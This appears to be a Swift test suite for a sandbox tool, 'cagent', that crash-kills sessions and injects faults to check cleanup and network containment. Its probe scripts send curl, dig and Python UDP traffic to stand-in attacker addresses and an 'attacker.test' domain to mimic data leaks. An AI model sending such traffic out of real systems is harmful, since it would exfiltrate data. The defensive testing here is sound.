import CagentCore
import Foundation
import Netlab
import Testing

/// Crash faults of the product (docs/testing.md "Crash faults"): `cagent enforce` SIGKILLed at random moments —
/// during setup, while the agent runs, during teardown — in a bounded loop. CagentNetworkTests' `CrashTests`
/// kills the network layer alone at each of its steps; this kills the whole session (launcher, cgroups,
/// gate, nflog reader), as a user's `kill -9` or an OOM kill would.
///
/// After each kill: the probe inside (which keeps trying the attacker's sink, directly and by DNS) never got
/// anything out; the next start cleans up what the dead session left, and `cagent doctor --clean` (scoped to
/// this test's runtime directory with `--leased-only`) does too; nothing of it remains — no interface, nft
/// table, mount, loop device, cgroup, lease or process; the store opens and holds every session recorded
/// before. The positive control runs the same probe without cagent and sees it reach the sink.
///
/// Everything runs in the netlab's simulated host (nsenter --net), with a runtime directory and a parent
/// cgroup of this test's own, so the checks see this test's objects only and never another test's session.
@Suite(.serialized) struct CrashFaultTests {
    static let tools = ["ip", "nft", "nsenter", "curl", "dig", "dnsmasq", "tcpdump", "python3"]

    /// Kills per run: small in CI, `CAGENT_CRASH_COUNT` for the long run (docs/testing.md).
    static var killCount: Int {
        ProcessInfo.processInfo.environment["CAGENT_CRASH_COUNT"].flatMap { Int($0) }.map { max($0, 3) } ?? 6
    }

    static let profileText = """
    cagent: 1
    agent: crashtest
    extends: [base]
    network:
      domains: [www.allowed.test]

    """

    /// The probe: it keeps trying the sink by TCP, UDP and DNS, and an allowed name (to show the network was
    /// live), writing one line per round into the workspace. It runs as a background child of the agent,
    /// so it outlives the agent's own exit (the teardown phase) until the session ends it.
    static func agentScript(marker: String, phase: String, workspace: String) -> String {
        """
        probe() {
          while :; do
            echo tick >> "\(workspace)/ticks-\(marker)"
            curl -s -m 1 -o /dev/null -w 'allowed %{http_code}\\n' http://www.allowed.test/ >> "\(workspace)/ticks-\(marker)" 2>/dev/null
            curl -s -m 1 -o /dev/null http://203.0.113.66/ 2>/dev/null && echo LEAK-tcp >> "\(workspace)/ticks-\(marker)"
            dig +time=1 +tries=1 +short leak-\(marker).attacker.test >/dev/null 2>&1
            dig @198.51.100.8 +time=1 +tries=1 +short leak-\(marker).attacker.test >/dev/null 2>&1
            python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("203.0.113.66", 9999))' 2>/dev/null
          done
        }
        probe &
        echo ready
        case "\(phase)" in
          teardown) sleep 0.2; exit 3 ;;
          *) sleep 60 ;;
        esac
        """
    }

    /// A cgroup per hierarchy for this test: cagent runs in it, so its session cgroups are made below it and
    /// the checks look nowhere else.
    final class ParentCgroup {
        let directories: [String]

        init() throws {
            let name = "cgt-crash-\(String(UInt32.random(in: 0...UInt32.max), radix: 16))"
            var made: [String] = []
            for line in (FileSystem.readText("/proc/self/cgroup") ?? "").split(separator: "\n") {
                let fields = line.split(separator: ":", maxSplits: 2, omittingEmptySubsequences: false)
                guard fields.count == 3 else { continue }
                let controllers = fields[1].split(separator: ",").map(String.init)
                let mount: String
                if fields[0] == "0" { mount = "/sys/fs/cgroup/unified" }
                else if controllers.contains("pids") { mount = "/sys/fs/cgroup/pids" }
                else if controllers.contains("memory") { mount = "/sys/fs/cgroup/memory" }
                else { continue }
                guard FileSystem.isDirectory(mount) else { continue }
                let own = String(fields[2]) == "/" ? "" : String(fields[2])
                let path = mount + own + "/" + name
                if mkdir(path, 0o755) != 0 { throw CagentError.system("test cgroup", "mkdir \(path)") }
                made.append(path)
            }
            directories = made
        }

        /// A shell prefix that moves the shell into every parent, then execs the rest.
        var enterScript: String {
            directories.map { "echo $$ > \($0)/cgroup.procs" }.joined(separator: "; ")
        }

        /// Session cgroups (`cagent-*`) below the parents.
        func sessionCgroups() -> [String] {
            directories.flatMap { dir in FileSystem.list(dir).filter { $0.hasPrefix("cagent-") }.map { dir + "/" + $0 } }
        }

        func remove() {
            for dir in directories {
                for child in FileSystem.list(dir) where child.hasPrefix("cagent-") { rmdir(dir + "/" + child) }
                for _ in 0..<100 { if rmdir(dir) == 0 || errno == ENOENT { break }; usleep(20_000) }
            }
        }
    }

    struct World {
        let lab: Netlab
        let fixture: SandboxFixture
        let cgroup: ParentCgroup
        var runtime: String { fixture.root + "/run" }
        var profile: String { fixture.root + "/crashtest.yaml" }
        var db: String { fixture.state + "/cagent.db" }

        var environment: [String: String] {
            var environment = ProcessInfo.processInfo.environment
            environment["HOME"] = fixture.home
            environment["CAGENT_RUNTIME_DIR"] = runtime
            return environment
        }

        /// `cagent ARGS` in the lab's simulated host and this test's cgroup; the pid is cagent's own (sh and
        /// nsenter exec).
        func start(_ arguments: [String], output: String) throws -> SpawnedProcess {
            let command = ([Products.cagent] + arguments).map { "'" + $0.replacingOccurrences(of: "'", with: "'\\''") + "'" }
                .joined(separator: " ")
            return try SpawnedProcess.start(
                ["/bin/sh", "-c", "\(cgroup.enterScript); exec nsenter --net=/run/netns/\(lab.hostNamespace) \(command)"],
                stdout: output, stderr: output + ".err", environment: environment)
        }

        func enforceArguments(_ command: [String]) -> [String] {
            ["enforce", "--profile", profile, "--user", String(SandboxFixture.agentUID), "--workspace", fixture.workspace,
             "--state-dir", fixture.state, "--upstream-dns", NetlabAddresses.dns4, "--"] + command
        }

        func run(_ arguments: [String], timeout: Double = 60) throws -> (status: Int32, output: String) {
            let output = fixture.root + "/.run-\(UInt32.random(in: 0...UInt32.max))"
            defer { unlink(output); unlink(output + ".err") }
            let process = try start(arguments, output: output)
            let status = process.wait(timeout: timeout)
            return (status, (FileSystem.readText(output) ?? "") + (FileSystem.readText(output + ".err") ?? ""))
        }

        /// What remains of cagent's sessions, as one line per object: in the lab's host namespace (tables,
        /// links), this test's cgroups, leases, mounts and loop devices of its files, processes of `marker`.
        func leftovers(marker: String) throws -> [String] {
            DetachedTeardowns.wait(runtime: runtime)
            var found: [String] = []
            // The kept empty table is no leftover (NftLeftovers); a session's part in it is.
            let ruleset = try lab.run(in: .host, ["nft", "list", "ruleset"])
            found += NftLeftovers.find(ruleset: ruleset.stdout).map { "nft: \($0)" }
            let links = try lab.run(in: .host, ["ip", "-o", "link"])
            for line in links.stdout.split(separator: "\n") where line.contains(": cgs") { found.append("link: \(line.prefix(40))") }
            found += cgroup.sessionCgroups().map { "cgroup: \($0)" }
            found += FileSystem.list(runtime + "/sessions").filter { $0.hasSuffix(".lease") }.map { "lease: \($0)" }
            found += hostMounts(under: fixture.root).map { "mount: \($0)" }
            for file in FileSystem.list("/sys/block") where file.hasPrefix("loop") {
                if let backing = FileSystem.readText("/sys/block/\(file)/loop/backing_file"), backing.hasPrefix(fixture.root) {
                    found.append("loop: \(file) \(backing)")
                }
            }
            found += processes(mentioning: marker).map { "process: \($0)" }
            return found
        }
    }

    /// Polls until `condition` holds or `seconds` passed; returns whether it held.
    static func eventually(_ seconds: Double, _ condition: () throws -> Bool) rethrows -> Bool {
        let deadline = Date().addingTimeInterval(seconds)
        while Date() < deadline {
            if try condition() { return true }
            usleep(50_000)
        }
        return try condition()
    }

    @Test("SIGKILL of cagent enforce at random moments (setup, agent running, teardown): nothing gets out, the next start and doctor --clean leave nothing, the store holds every finished session",
          .enabled(if: Requirements.mayRun(root: true, tools: tools), "needs root, namespaces and the netlab's tools"),
          .timeLimit(.minutes(30)))
    func killAtRandomMoments() throws {
        try Requirements.root()
        let lab = try Netlab(); defer { lab.shutdown() }
        let fixture = try SandboxFixture(); defer { fixture.remove() }
        let cgroup = try ParentCgroup(); defer { cgroup.remove() }
        let world = World(lab: lab, fixture: fixture, cgroup: cgroup)
        try Self.profileText.write(toFile: world.profile, atomically: true, encoding: .utf8)
        var generator = SystemRandomNumberGenerator()
        let phases = ["setup", "running", "teardown"]
        var probeRounds = 0, allowedReached = 0, finishedSessions = 0
        var cleanedBy: [String: Int] = [:]

        for round in 0..<Self.killCount {
            let phase = phases[round % phases.count]
            let marker = "cgtcrash\(String(UInt32.random(in: 0...UInt32.max), radix: 16))"
            let output = fixture.root + "/\(marker).out"
            let process = try world.start(world.enforceArguments(["/bin/sh", "-c", Self.agentScript(marker: marker, phase: phase, workspace: fixture.workspace), marker]),
                                          output: output)
            let label = "round \(round) (\(phase))"
            var delay = 0.0
            switch phase {
            case "setup":
                // Somewhere between cagent's first instruction and the agent's start (~0.1-0.5 s on this build).
                delay = Double.random(in: 0.0...0.35, using: &generator)
                usleep(UInt32(delay * 1_000_000))
            case "running":
                let ready = Self.eventually(20) { (FileSystem.readText(output) ?? "").contains("ready") }
                #expect(ready, "\(label): the agent never started: \(FileSystem.readText(output + ".err") ?? "")")
                delay = Double.random(in: 0.3...1.5, using: &generator)
                usleep(UInt32(delay * 1_000_000))
            default:
                // The agent exits 0.2 s after "ready" while its probe child runs on: teardown follows.
                let ready = Self.eventually(20) { (FileSystem.readText(output) ?? "").contains("ready") }
                #expect(ready, "\(label): the agent never started: \(FileSystem.readText(output + ".err") ?? "")")
                delay = 0.2 + Double.random(in: 0.0...0.15, using: &generator)
                usleep(UInt32(delay * 1_000_000))
            }
            kill(process.pid, SIGKILL)
            let status = process.wait(timeout: 20)
            let killedAlive = status == 128 + SIGKILL
            // In the teardown phase cagent may have finished before the kill (then it exits with the agent's 3).
            #expect(killedAlive || (phase == "teardown" && status == 3),
                    "\(label): cagent's status \(status): \(FileSystem.readText(output + ".err") ?? "")")
            if !killedAlive { finishedSessions += 1 }

            // The sandbox dies with cagent: the probe stops (its processes are gone) within a few seconds.
            let gone = Self.eventually(10) { processes(mentioning: marker).isEmpty }
            #expect(gone, "\(label) after \(delay) s: the agent's processes outlived cagent: \(processes(mentioning: marker))")
            let ticks = FileSystem.readText(fixture.workspace + "/ticks-\(marker)") ?? ""
            probeRounds += ticks.components(separatedBy: "tick").count - 1
            allowedReached += ticks.components(separatedBy: "allowed 200").count - 1
            #expect(!ticks.contains("LEAK"), "\(label): the probe reached the sink: \(ticks)")
            if phase == "running" { #expect(ticks.contains("tick"), "\(label): the probe did not run") }

            // The next start cleans the dead session up; every other round `cagent doctor --clean`, scoped to this
            // test's runtime directory, does it instead.
            let byDoctor = round % 2 == 1
            let next = byDoctor ? try world.run(["doctor", "--clean", "--leased-only", "--json"])
                                : try world.run(world.enforceArguments(["/bin/true"]))
            #expect(next.status == 0, "\(label): the \(byDoctor ? "doctor" : "next start") failed: \(next.output)")
            if !byDoctor { finishedSessions += 1 }
            let left = try world.leftovers(marker: marker)
            #expect(left.isEmpty, "\(label), \(byDoctor ? "doctor --clean" : "next start") after a kill \(delay) s in: left \(left)")
            if left.isEmpty { cleanedBy[byDoctor ? "doctor" : "next start", default: 0] += 1 }
        }

        // The probe ran and was live: it reached the allowed name through the same sessions.
        #expect(probeRounds > 0 && allowedReached > 0, "the probe did not run (\(probeRounds) rounds, \(allowedReached) allowed)")
        let leaked = lab.sinkRecords().filter { line in NetlabAddresses.attackerAll.contains { line.contains($0) } }
        #expect(leaked.isEmpty, "the sink saw the sandbox: \(leaked.prefix(5))")
        #expect(lab.dnsQueries(containing: "attacker.test").isEmpty, "the DNS server saw \(lab.dnsQueries(containing: "attacker.test").prefix(3))")

        // The store opens and holds every session that finished (the next starts, a teardown that won the race).
        let sessions = try world.run(["sessions", "--db", world.db, "--json"])
        #expect(sessions.status == 0, "the store does not open: \(sessions.output)")
        let recorded = sessions.output.components(separatedBy: "\"kind\"").count - 1
        #expect(recorded >= finishedSessions && finishedSessions > 0,
                "the store holds \(recorded) sessions, \(finishedSessions) finished: \(sessions.output.prefix(400))")

        // Positive control: the same probe without cagent, from the simulated host, reaches the sink and the DNS log.
        let control = "probe-control-\(UInt32.random(in: 0...UInt32.max))"
        _ = try lab.run(in: .host, ["curl", "-s", "-m", "2", "-o", "/dev/null", "http://203.0.113.66/"])
        _ = try lab.run(in: .host, ["dig", "@\(NetlabAddresses.dns4)", "+time=1", "+tries=1", "\(control).attacker.test"])
        _ = try lab.run(in: .host, ["python3", "-c", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('203.0.113.66', 9999))"])
        #expect(lab.sinkRecords().contains { $0.contains("203.0.113.66") }, "control: the sink records the probe")
        #expect(!lab.dnsQueries(containing: control).isEmpty, "control: the DNS log records the probe")
        print("crash faults: \(Self.killCount) kills, probe rounds \(probeRounds), allowed reached \(allowedReached), cleaned by \(cleanedBy)")
    }

    @Test("Faults mid-session: the upstream resolver dies, the agent forks hundreds of processes and exits while they run on — the session fails closed, ends, and leaves nothing",
          .enabled(if: Requirements.mayRun(root: true, tools: tools), "needs root, namespaces and the netlab's tools"),
          .timeLimit(.minutes(5)))
    func faultsMidSession() throws {
        try Requirements.root()
        let lab = try Netlab(); defer { lab.shutdown() }
        let fixture = try SandboxFixture(); defer { fixture.remove() }
        let cgroup = try ParentCgroup(); defer { cgroup.remove() }
        let world = World(lab: lab, fixture: fixture, cgroup: cgroup)
        try Self.profileText.write(toFile: world.profile, atomically: true, encoding: .utf8)
        let marker = "cgtfault\(String(UInt32.random(in: 0...UInt32.max), radix: 16))"
        let resolverGone = fixture.workspace + "/resolver-gone"   // the sandbox sees the workspace, not the rest of /tmp
        let children = 300
        // The agent: a lookup that works (the control), then, once the test killed the lab's resolver, lookups
        // that must fail fast (SERVFAIL, not a hang and not an open door); then `children` processes that keep
        // probing the sink, and the agent's own exit while they run.
        let script = """
        echo "before $(dig +time=3 +tries=1 +short www.allowed.test | head -1)"
        echo up
        while [ ! -e \(resolverGone) ]; do sleep 0.05; done
        began=$(date +%s%N)
        out=$(dig +time=5 +tries=1 www.allowed.test 2>&1)
        echo "after-status $(echo "$out" | sed -n 's/.*status: \\([A-Z]*\\).*/\\1/p') $(( ($(date +%s%N) - began) / 1000000 )) ms"
        echo "attacker $(dig +time=2 +tries=1 +short x.attacker.test)"
        i=0
        while [ $i -lt \(children) ]; do
          ( while :; do curl -s -m 1 -o /dev/null http://203.0.113.66/ 2>/dev/null && echo LEAK; sleep 0.5; done ) &
          i=$((i + 1))
        done
        echo "forked $i"
        exit 5
        """
        let output = fixture.root + "/\(marker).out"
        let began = Date()
        let process = try world.start(world.enforceArguments(["/bin/sh", "-c", script, marker]), output: output)
        let up = Self.eventually(30) { (FileSystem.readText(output) ?? "").contains("up") }
        #expect(up, "the agent did not start: \(FileSystem.readText(output + ".err") ?? "")")
        // The control: the name resolved while the resolver lived.
        #expect((FileSystem.readText(output) ?? "").contains("before \(NetlabAddresses.web1)"), "\(FileSystem.readText(output) ?? "")")
        // The upstream resolver dies (the lab's dnsmasq, found by its log file, this lab's alone).
        let resolver = processes(mentioning: lab.dnsLog)
        #expect(!resolver.isEmpty, "the lab's resolver was not found")
        for pid in resolver { kill(pid, SIGKILL) }
        _ = FileManager.default.createFile(atPath: resolverGone, contents: nil)
        let status = process.wait(timeout: 90)
        let elapsed = Date().timeIntervalSince(began)
        let out = FileSystem.readText(output) ?? "", err = FileSystem.readText(output + ".err") ?? ""
        print("faults mid-session: \(out.split(separator: "\n").filter { $0.hasPrefix("after-status") || $0.hasPrefix("forked") }), session \(String(format: "%.1f", elapsed)) s")
        // Failed closed and fast: SERVFAIL within the gate's upstream timeout, no answer for the attacker's name.
        #expect(out.contains("after-status SERVFAIL"), "with the resolver dead: \(out)")
        #expect(out.contains("attacker \n") || out.contains("attacker\n"), "\(out)")
        // The agent's status is cagent's, although hundreds of its processes were still running at its exit.
        #expect(out.contains("forked \(children)"), "\(out)")
        #expect(status == 5, "status \(status): \(err.suffix(400))")
        #expect(elapsed < 120, "the session took \(elapsed) s")
        #expect(!out.contains("LEAK"), "\(out)")
        let left = try world.leftovers(marker: marker)
        #expect(left.isEmpty, "left: \(left.prefix(10))")
        let leaked = lab.sinkRecords().filter { line in NetlabAddresses.attackerAll.contains { line.contains($0) } }
        #expect(leaked.isEmpty, "the sink saw the sandbox: \(leaked.prefix(5))")
        // Positive control: the same probe without cagent reaches the sink.
        _ = try lab.run(in: .host, ["curl", "-s", "-m", "2", "-o", "/dev/null", "http://203.0.113.66/"])
        #expect(lab.sinkRecords().contains { $0.contains("203.0.113.66") }, "control: the sink records the probe")
    }

    @Test("The disk holding the store fills up during cagent learn: the session ends with the store's error named, nothing is left, the database still opens",
          .enabled(if: Requirements.mayRun(root: true, tools: tools + ["sqlite3", "unshare"]), "needs root, namespaces, the netlab's tools, sqlite3 and unshare"),
          .timeLimit(.minutes(5)))
    func storeDiskFills() throws {
        try Requirements.root()
        let lab = try Netlab(); defer { lab.shutdown() }
        let fixture = try SandboxFixture(); defer { fixture.remove() }
        let small = fixture.root + "/small"
        #expect(mkdir(small, 0o755) == 0)
        // Thousands of distinct long paths: more rows than a 512 KiB filesystem holds.
        let program = """
        import os, sys
        base = sys.argv[1]
        os.makedirs(base, exist_ok=True)
        for i in range(int(sys.argv[2])):
            open("%s/%s-%06d" % (base, "p" * 120, i), "w").close()
        print("made", flush=True)
        """
        try fixture.write(fixture.workspace + "/fill.py", program)
        var environment = ProcessInfo.processInfo.environment
        environment["CAGENT_RUNTIME_DIR"] = fixture.root + "/run"
        // A private mount namespace holds the small tmpfs (gone with it); the database is checked inside it after
        // cagent ended. The control: the same check on the same database before the session wrote to it is
        // not needed — a database that does not open fails `integrity_check` either way (no output, status 1).
        let script = """
        mount -t tmpfs -o size=512k tmpfs \(small) || exit 90
        nsenter --net=/run/netns/\(lab.hostNamespace) \(Products.cagent) learn --user \(SandboxFixture.agentUID) \\
          --home \(fixture.home) --state-dir \(fixture.state) --db \(small)/learn.db --workspace \(fixture.workspace) \\
          -- /usr/bin/python3 \(fixture.workspace)/fill.py \(fixture.workspace)/fill 20000
        echo "cagent-status $?"
        echo "integrity $(sqlite3 \(small)/learn.db 'pragma integrity_check' 2>&1)"
        echo "sessions $(sqlite3 \(small)/learn.db 'select count(*) from sessions' 2>&1)"
        df -k \(small) | tail -1
        """
        let began = Date()
        let run = try Netlab.execute(["unshare", "--mount", "--propagation", "private", "/bin/sh", "-c", script],
                                     timeout: 240, environment: environment)
        let elapsed = Date().timeIntervalSince(began)
        print("store disk fills: \(run.stdout.split(separator: "\n").filter { !$0.hasPrefix("made") }) in \(String(format: "%.1f", elapsed)) s; stderr tail: \(run.stderr.suffix(3000))")
        #expect(run.status == 0, "\(run.stdout) \(run.stderr.suffix(600))")
        // cagent said what failed (the store) and what to do, in bounded time; its status stays the agent's
        // (docs/cli.md: after the agent ran, cagent's own failure is reported, not turned into the status).
        let status = run.stdout.split(separator: "\n").first { $0.hasPrefix("cagent-status ") }.flatMap { Int32($0.dropFirst(14)) }
        #expect(status == 0, "cagent's status with a full disk: \(run.stdout)")
        #expect(run.stdout.contains("100%"), "the disk did not fill (the fault did not happen): \(run.stdout)")
        let line = run.stderr.split(separator: "\n").first { $0.hasPrefix("cagent: store failed: ") || $0.contains("store") && $0.contains("full") }
        #expect(line?.contains("database or disk is full") == true, "the error does not name the store: \(run.stderr.suffix(600))")
        #expect(run.stderr.contains("hint: free space"), "no hint: \(run.stderr.suffix(600))")
        #expect(elapsed < 200)
        // The database opens and is consistent: what was committed stays.
        #expect(run.stdout.contains("integrity ok"), "\(run.stdout)")
        // Nothing of the session remains: no lease, no trace cgroup of that cagent, no table in the lab's host.
        #expect(FileSystem.list(fixture.root + "/run/sessions").filter { $0.hasSuffix(".lease") }.isEmpty)
        let ruleset = try lab.run(in: .host, ["nft", "list", "ruleset"]).stdout
        #expect(NftLeftovers.find(ruleset: ruleset).isEmpty, "nft left: \(ruleset)")
        #expect(processes(mentioning: fixture.workspace + "/fill.py").isEmpty)
    }

    @Test("SIGKILL of cagent learn mid-session: the store keeps every committed batch, the next start and doctor --clean remove the trace cgroup, table and lease",
          .enabled(if: Requirements.mayRun(root: true, tools: tools + ["sqlite3"]), "needs root, namespaces, the netlab's tools and sqlite3"),
          .timeLimit(.minutes(5)))
    func killLearnMidSession() throws {
        try Requirements.root()
        let lab = try Netlab(); defer { lab.shutdown() }
        let fixture = try SandboxFixture(); defer { fixture.remove() }
        let cgroup = try ParentCgroup(); defer { cgroup.remove() }
        let world = World(lab: lab, fixture: fixture, cgroup: cgroup)
        // Fresh files without end: the recorder commits a batch every 50,000 events.
        try fixture.write(fixture.workspace + "/storm.py", """
            import os, sys
            base = sys.argv[1]
            os.makedirs(base, exist_ok=True)
            i = 0
            while True:
                open("%s/f%07d" % (base, i), "w").close()
                i += 1
            """)
        func learn(_ command: [String]) -> [String] {
            ["learn", "--user", String(SandboxFixture.agentUID), "--home", fixture.home, "--state-dir", fixture.state,
             "--db", world.db, "--workspace", fixture.workspace, "--"] + command
        }
        func committed(_ round: Int) -> Int {
            let out = try? Netlab.execute(["sqlite3", world.db, "SELECT count(*) FROM files WHERE path LIKE '%/crashstorm\(round)/%'"], timeout: 20)
            return Int(out?.stdout.trimmingCharacters(in: .whitespacesAndNewlines) ?? "") ?? 0
        }
        for round in 0..<2 {
            let marker = "cgtlearn\(String(UInt32.random(in: 0...UInt32.max), radix: 16))"
            let output = fixture.root + "/\(marker).out"
            let process = try world.start(learn(["/usr/bin/python3", fixture.workspace + "/storm.py", fixture.workspace + "/crashstorm\(round)", marker]),
                                          output: output)
            let label = "round \(round)"
            var before = 0
            let batch = Self.eventually(90) { before = committed(round); return before > 0 }
            #expect(batch, "\(label): no batch committed: \(FileSystem.readText(output + ".err") ?? "")")
            let traceCgroups = { (FileSystem.list("/sys/fs/cgroup/unified").filter { $0.hasPrefix("cagent-trace-\(process.pid)-") }) }
            #expect(!traceCgroups().isEmpty, "\(label): the session's trace cgroup was not found (the check would prove nothing)")
            kill(process.pid, SIGKILL)
            #expect(process.wait(timeout: 20) == 128 + SIGKILL)
            let gone = Self.eventually(10) { processes(mentioning: marker).isEmpty }
            #expect(gone, "\(label): the agent outlived cagent")
            // The store opens, is consistent, and holds every committed batch.
            let check = try Netlab.execute(["sqlite3", world.db, "pragma integrity_check"], timeout: 20)
            #expect(check.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "ok", "\(label): \(check.stdout) \(check.stderr)")
            let after = committed(round)
            #expect(after >= before, "\(label): \(before) rows committed before the kill, \(after) after")
            // The next start (a learn session) or doctor --clean removes what the killed one left.
            let byDoctor = round == 1
            let next = byDoctor ? try world.run(["doctor", "--clean", "--leased-only", "--json"]) : try world.run(learn(["/bin/true"]))
            #expect(next.status == 0, "\(label): \(next.output.suffix(500))")
            #expect(traceCgroups().isEmpty, "\(label), \(byDoctor ? "doctor --clean" : "next start"): trace cgroup left: \(traceCgroups())")
            let left = try world.leftovers(marker: marker)
            #expect(left.isEmpty, "\(label), \(byDoctor ? "doctor --clean" : "next start"): left \(left)")
            print("learn killed after \(before) committed rows: \(after) rows after the kill; cleaned by \(byDoctor ? "doctor" : "the next start")")
        }
    }
}
